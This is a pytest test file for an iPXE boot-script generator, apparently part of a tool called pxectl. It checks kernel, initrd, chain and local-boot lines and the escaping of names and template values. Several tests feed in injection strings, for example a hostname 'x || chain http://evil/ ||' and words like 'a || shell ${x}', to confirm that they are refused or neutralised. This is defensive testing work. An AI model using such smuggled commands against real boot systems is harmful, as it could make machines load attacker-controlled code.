from dataclasses import replace

import pytest

from pxectl.boot.client import Client, Firmware
from pxectl.boot.decide import decide
from pxectl.boot.machine import Netboot
from pxectl.boot.profile import Profile
from pxectl.boot.quirks import Local, Quirks
from pxectl.boot.recipe import Recipe
from pxectl.boot.rules import Rules
from pxectl.boot.script import script_for, template_context
from pxectl.boot.urls import Urls
from pxectl.errors import PxectlError
from pxectl.wire.iana import Arch
from tests.builders import MAC1, NOW, machine, site

URLS = Urls("http://10.77.0.1:8080", "tok")
EFI = Client(MAC1, Arch.X64_UEFI, Firmware.IPXE)
BIOS = Client(MAC1, Arch.X86_BIOS, Firmware.IPXE)


def script(profile, client=EFI, machine_=None, **changes):
    machine_ = machine_ or machine(profile=profile.name)
    site_ = site(profiles=(profile,), machines=(machine_,), **changes)
    decision = decide(client, machine_, Rules((), {profile.name: profile}), NOW)
    return script_for(client, decision, site_, URLS)


TWO = Profile("p", kernel="linux", initrd=("a.gz", "b.gz"), cmdline=("quiet", "console=ttyS0"))


def test_efi_kernel_finds_its_initrds_by_name():
    text = script(TWO)

    assert (
        "kernel http://10.77.0.1:8080/tok/files/linux "
        "initrd=initrd.img initrd=initrd1.img quiet console=ttyS0 || goto failed\n"
        "initrd --name initrd.img http://10.77.0.1:8080/tok/files/a.gz || goto failed\n"
        "initrd --name initrd1.img http://10.77.0.1:8080/tok/files/b.gz || goto failed\n"
        "imgfetch --name booted http://10.77.0.1:8080/tok/booted ||\n"
        "imgfree booted ||\n"
        "boot || goto failed\n"
    ) in text


def test_bios_kernel_gets_the_command_line_that_the_site_asked_for():
    assert "kernel http://10.77.0.1:8080/tok/files/linux quiet console=ttyS0 ||" in script(
        TWO, BIOS
    )


def test_kernel_elsewhere_is_fetched_from_there():
    text = script(replace(TWO, kernel="https://example.org/linux", initrd=()))

    assert "kernel https://example.org/linux quiet" in text


def test_words_of_the_command_line_are_templates():
    text = script(
        replace(TWO, cmdline=("host={{ machine.name }}", "url={{ urls.template('ks') }}"))
    )

    assert "host=node1 url=http://10.77.0.1:8080/tok/templates/ks" in text


def test_chain_goes_elsewhere():
    text = script(Profile("p", chain="https://boot.netboot.xyz"))

    assert "chain --autofree https://boot.netboot.xyz ||" in text


def test_whole_script_is_the_sites_own():
    text = script(Profile("p", script="menu.ipxe"), templates={"menu.ipxe": "#!ipxe\nshell\n"})

    assert text == "#!ipxe\nshell\n"


def test_missing_script_names_itself():
    with pytest.raises(PxectlError, match=r"no template `menu\.ipxe`"):
        script(Profile("p", script="menu.ipxe"))


@pytest.mark.parametrize(
    ("client", "local", "line"),
    [
        (BIOS, None, "exit\n"),
        (EFI, None, "exit 1\n"),
        (BIOS, Local.SANBOOT, "sanboot --no-describe --drive 0x80 || exit 1\n"),
        (EFI, Local.GRUB, r"--filename \EFI\debian\grubx64.efi ||"),
    ],
)
def test_local_leaves_in_the_way_that_the_firmware_understands(client, local, line):
    disk = machine(netboot=Netboot.NEVER, quirks=Quirks(local=local))

    assert line in script(TWO, client, disk)


def test_names_can_not_break_out_of_the_echo():
    odd = machine(name="a || shell ${x} && é", profile="p")

    text = script(TWO, EFI, odd)

    assert "echo pxectl: a | | shell $ {x} & & ?:" in text


def test_every_script_is_one():
    assert script(TWO).startswith("#!ipxe\n")


def test_a_script_that_a_source_gave_is_served_as_it_is():
    profile = Profile("api", script_text="#!ipxe\necho {{ not_ours }} ${ip}\n")
    own = machine(profile="api", own=profile)
    decision = decide(EFI, own, Rules(), NOW)

    assert script_for(EFI, decision, site(), URLS) == profile.script_text


def test_a_message_is_shown_and_obeyed_by_nobody():
    text = script(Profile("p", kernel="linux", message="hi || shell\n${ip} \x1b[2J"))

    assert text.splitlines()[2:4] == ["echo hi | | shell", "echo $ {ip} ?[2J"]


@pytest.mark.parametrize("word", ["a || b", "&&", "x ;", "#c", "a #c", "a\nb", "\r"])
def test_a_word_that_would_end_ipxes_command_is_refused(word):
    """Seen with iPXE 1.21.1: `echo Q2 a #b c` says `Q2 a`, `echo Q4 a;b` says `Q4 a;b`."""
    with pytest.raises(PxectlError, match="iPXE would end the command"):
        script(replace(TWO, cmdline=(word,)))


@pytest.mark.parametrize("word", ['a="b c"', "a;b", "a#b", "'d'", "\\e", "a||b", "${net0/mac}"])
def test_other_words_go_as_they_are(word):
    assert f"quiet {word} ||" in script(replace(TWO, cmdline=("quiet", word)))


def test_what_a_client_says_of_itself_runs_no_command():
    hostile = replace(EFI, hostname="x || chain http://evil/ ||")

    with pytest.raises(PxectlError, match="iPXE would end the command"):
        script(replace(TWO, cmdline=("host={{ client.hostname }}",)), hostile)


@pytest.mark.parametrize("key", ["kernel", "chain"])
def test_nor_does_it_within_a_url(key):
    hostile = replace(EFI, hostname="x || chain http://evil/ ||")
    url = "http://10.77.0.5/{{ client.hostname }}"
    recipe = Recipe("r", "", words={"x64": {}}, kernel=url)
    profile = Profile("p", chain=url) if key == "chain" else Profile("p", recipe=recipe)

    with pytest.raises(PxectlError, match="iPXE would end the command"):
        script(profile, hostile)


@pytest.mark.parametrize(("given", "seen"), [("", "node1"), ("web1", "web1")])
def test_templates_see_the_hostname_that_the_machine_gets(given, seen):
    site_, client = site(machines=(machine(hostname=given),)), Client(MAC1)
    decision = decide(client, site_.inventory.machines[0], site_.rules, NOW)

    context = template_context(client, decision, site_, URLS)

    assert context["machine"].hostname == seen
